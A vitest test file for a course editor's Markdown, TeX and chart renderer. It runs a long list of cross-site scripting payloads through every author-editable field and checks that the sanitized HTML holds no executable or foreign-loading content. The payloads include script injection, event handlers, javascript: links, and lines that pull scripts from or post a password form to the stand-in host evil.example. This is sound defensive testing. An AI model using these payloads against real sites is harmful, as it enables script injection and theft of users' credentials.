import { parseHTML } from 'linkedom';
import { expect, test } from 'vitest';
import { renderFigure } from '../figures/figure.ts';
import { renderInline, renderMarkdown } from './markdown.ts';

/** What has broken out of other editors: HTML, links, entities, Markdown, TeX, SVG and mixtures of them. */
const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<svg><script>alert(1)</script></svg>',
  '<svg onload="alert(1)"><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '</p></details></section></span><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](https://safe.example "onmouseover=alert(1)")',
  '[x](<javascript:alert(1)>)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/a.png)',
  '![x](x" onerror="alert(1))',
  '[![x](javascript:alert(1))](javascript:alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```<script>\nalert(1)\n```',
  '``` "onmouseover="alert(1)\nx\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/a.png}$',
  '$\\htmlData{x="onerror=alert(1)}{x}$',
  '$\\htmlStyle{background:url(https://evil.example)}{x}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\text{"><script>alert(1)</script>}$',
  '$x<script>alert(1)</script>$',
  '$\\unicode{<script>}$',
  '::: example "><script>alert(1)</script>\nx\n:::',
  '::: idea onclick=alert(1)\nx\n:::',
  '| <img src=x onerror=alert(1)> |\n|--|\n| [x](javascript:alert(1)) |',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202e<script>alert(1)</script>',
];

/** Every place of a course where an author's words become HTML. */
const fields: Record<string, (payload: string) => string> = {
  'a text': (payload) => renderMarkdown(payload, place(), renderFigure),
  'a text in a list': (payload) => renderMarkdown(`- ${payload}`, place(), renderFigure),
  'a box': (payload) => renderMarkdown(`::: idea\n${payload}\n:::`, place(), renderFigure),
  'the title of a box': (payload) => renderMarkdown(`::: try ${oneLine(payload)}\nx\n:::`, place(), renderFigure),
  'an underlined text': (payload) => renderMarkdown(`++${payload}++`, place(), renderFigure),
  'a cell of a table': (payload) => renderMarkdown(`| a |\n|--|\n| ${oneLine(payload)} |`, place(), renderFigure),
  'a heading': (payload) => renderMarkdown(`## ${oneLine(payload)}`, place(), renderFigure),
  'an option, hint or rationale': (payload) => renderInline(payload, place()),
  'words in a formula': (payload) => renderInline(`$\\text{${payload}}$`, place()),
  'the description of a chart': (payload) => renderFigure(chart({ alt: payload }), place()),
  'the caption of a chart': (payload) => renderFigure(chart({ caption: payload }), place()),
  'the label of an axis': (payload) => renderFigure(chart({ label: payload.slice(0, 80) }), place()),
  'the name of a series': (payload) => renderFigure(chart({ name: payload.slice(0, 60) }), place()),
  'a category': (payload) => renderFigure(chart({ category: payload.slice(0, 60) }), place()),
  'the title of a table of data': (payload) => renderFigure(table({ caption: payload }), place()),
  'a column of a table of data': (payload) => renderFigure(table({ column: payload.slice(0, 120) }), place()),
  'a cell of a table of data': (payload) => renderFigure(table({ cell: payload.slice(0, 200) }), place()),
  'a drawing': (payload) => renderFigure(drawing(payload), place()),
  'the text of a drawing': (payload) =>
    renderFigure(drawing(`<text>${payload.replace(/[<&]/g, '&lt;')}</text>`), place()),
  'the class of a drawing': (payload) =>
    renderFigure(drawing(`<g class="${payload.replace(/[<&"]/g, '')}"/>`), place()),
  'the description of a figure that moves': (payload) =>
    renderFigure(`moves: line\nalt: ${JSON.stringify(payload)}`, place()),
  'a sentence in a figure that moves': (payload) =>
    renderFigure(
      `moves: boundaries\nalt: x\nfirst: ${JSON.stringify(payload.slice(0, 140))}\nsentence: x\nfragment: x`,
      place(),
    ),
};

test.each(payloads)('%j does nothing in any field', (payload) => {
  const found = Object.entries(fields).map(([field, render]) => ({ field, dangers: dangersIn(render(payload)) }));
  expect(found.filter(({ dangers }) => dangers.length > 0)).toEqual([]);
});

test('the watch sees what it is there to see', () => {
  const dangers = [
    ...['<script></script>', '<p onclick="x">', '<a href="javascript:x">', '<img src="https://evil.example/x">'],
    ...['<span style="background:url(https://evil.example)">', '<a href="//evil.example">', '<svg><use></use></svg>'],
  ];
  for (const html of dangers) expect(dangersIn(html)).toHaveLength(1);
});

test('harmless words come through every field', () => {
  const rendered = Object.entries(fields).filter(([field]) => !/a drawing|the class|words/.test(field));
  expect(rendered.filter(([, render]) => !render('plain words').includes('plain words'))).toEqual([]);
});

const elements = new Set(
  (
    'p br hr strong em s u code pre blockquote ul ol li a span h2 h3 h4 h5 h6 section details summary div table caption thead ' +
    'tbody tr th td figure figcaption svg g path line polyline polygon circle ellipse rect text tspan math semantics ' +
    'annotation mrow mi mn mo mtext mspace msup msub msubsup mfrac msqrt mroot mstyle mover munder munderover mtable ' +
    'mtr mtd mpadded menclose mphantom mglyph'
  ).split(' '),
);
const attributes =
  /^(?:class|role|aria-[a-z]+|data-moves|tabindex|scope|start|href|rel|style|xmlns|encoding|display|[a-z]*(?:width|height|align|space|size|depth)|viewBox|d|points|transform|fill(?:-opacity)?|stroke(?:-[a-z]+)?|x[12]?|y[12]?|c[xy]|r[xy]?|d[xy]|text-anchor|font-[a-z]+|preserveAspectRatio|opacity|stretchy|fence|separator|lspace|rspace|mathvariant|accent(?:under)?|scriptlevel|displaystyle|[lr]space|linebreak|notation|voffset|column[a-z]+|row[a-z]+)$/;

/** Everything in the HTML that could run, load or lead to a foreign place. */
function dangersIn(html: string): string[] {
  const { document } = parseHTML(`<!doctype html><html><body>${html}</body></html>`);
  return [...document.querySelectorAll('body *')].flatMap((element) => {
    const tag = element.localName;
    if (!elements.has(tag)) return [`<${tag}>`];
    return [...element.attributes]
      .filter((attribute) => isDangerous(tag, attribute))
      .map(({ name }) => `<${tag} ${name}>`);
  });
}

function isDangerous(tag: string, { name, value }: { name: string; value: string }): boolean {
  // Where a link may lead is the author's to say; that it is https, or a path of this site, is ours.
  if (name === 'href') return tag !== 'a' || !/^(?:https:\/\/|\/(?!\/|\\))/.test(value);
  if (name === 'style') return /url|expression|import|position:fixed/i.test(value);
  return !attributes.test(name);
}

function place() {
  return { line: 1, report: () => {} };
}

function oneLine(payload: string): string {
  return payload.replace(/\n/g, ' ');
}

function chart({ alt = 'a', caption = 'b', label = 'c', name = 'd', category = 'e' }): string {
  return JSON.stringify({
    alt,
    caption,
    chart: 'bar',
    x: { label },
    y: { label, min: 0, max: 10, step: 5 },
    series: [
      { name, points: [[category, 3]] },
      { name: 'other', points: [[category, 4]] },
    ],
  });
}

function table({ caption = 'a', column = 'b', cell = 'c' }): string {
  return JSON.stringify({ caption, table: { columns: ['a', column], rows: [['a', cell]] } });
}

function drawing(inside: string): string {
  return JSON.stringify({ alt: 'a', svg: `<svg viewBox="0 0 9 9">${inside}</svg>` });
}
